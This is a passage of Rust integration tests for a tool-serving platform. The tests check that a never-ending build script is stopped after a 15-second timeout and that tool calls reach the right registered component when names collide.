    // The builds' private directories go under a directory of this test's own.
    let tmp = cli.path("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let s = Server::start_with_env(
        &cli,
        &[
            "--script-sdk",
            sdk.to_str().unwrap(),
            "--script-build-secs",
            "15",
        ],
        &[("TMPDIR", &tmp)],
    );
    assert_eq!(
        script_policy(&s, &admin, true, &[]).status(),
        StatusCode::OK
    );
    // Top-level code runs at build time: this one never ends.
    let spin = "import { step } from 'latchkey-sdk';\nwhile (true) {}\nexport const run = step(() => 1);\n";
    let mut cfg = http(&s, &admin);
    cfg["calls"] = json!([["run_script", {"source": spin}]]);
    let seen = client("session", &cfg).unwrap();
    let text = seen["calls"][0]["text"].as_str().unwrap();
    assert_eq!(seen["calls"][0]["is_error"], true, "{seen}");
    assert!(text.contains("longer than 15s"), "{text}");
    assert_eq!(processes_under(&tmp), Vec::<String>::new());
    assert_eq!(s.get("/healthz", &admin).status(), StatusCode::OK);
}

#[test]
fn a_tool_call_runs_what_tools_list_named_whatever_names_registrations_share() {
    let up = Upstream::start_blocking().unwrap();
    let (_cli, admin, s) = platform(&up);
    let register = |name: &str, guest: &str| {
        let r = s
            .req("POST", &format!("/v1/components?name={name}"), Some(&admin))
            .header("content-type", "application/wasm")
            .body(std::fs::read(latchkey_tests::guest(guest)).unwrap())
            .send()
            .unwrap();
        assert_eq!(r.status(), StatusCode::CREATED, "{}", r.text().unwrap());
    };
    // A component literally named like the tool of a component a workflow hides (sorted
    // before it), a component with the script tool's name, and scripts on.
    register("component.zeta", "noop");
    register("zeta", "probe");
    register_workflow(&s, &admin, "zeta");
    register("run_script", "noop");
    assert_eq!(
        script_policy(&s, &admin, true, &[]).status(),
        StatusCode::OK
    );
    let mut cfg = http(&s, &admin);
    let echo = json!({"action": "echo"});
    cfg["calls"] = json!([
        ["zeta", echo],
        ["component.zeta", echo],
        ["run_script", echo],
        ["latchkey.run_script", {"source": "x"}],
    ]);
    cfg["reads"] = json!(["latchkey://runs"]);
    let seen = client("session", &cfg).unwrap();
    assert_eq!(
        tool_names(&seen),
        [
            "component.zeta",
            "latchkey.run_script",
            "probe",
            "run_script",
            "wf",
            "zeta"
        ],
        "{seen}"
    );
    let calls = seen["calls"].as_array().unwrap();
    assert!(calls[..3].iter().all(|c| c["is_error"] == false), "{seen}");
    // The script tool went to the builder (none on this host).
    assert!(
        calls[3]["text"].as_str().unwrap().contains("--script-sdk"),
        "{seen}"
    );
    // Newest first: what each call ran.
    let runs: Value = serde_json::from_str(seen["reads"][0]["text"].as_str().unwrap()).unwrap();
    let targets: Vec<&str> = runs
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["target"].as_str().unwrap())
        .collect();
    assert_eq!(targets, ["run_script", "zeta", "zeta"], "{runs}");
    let kinds: Vec<&str> = runs
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["component", "component", "workflow"], "{runs}");
}
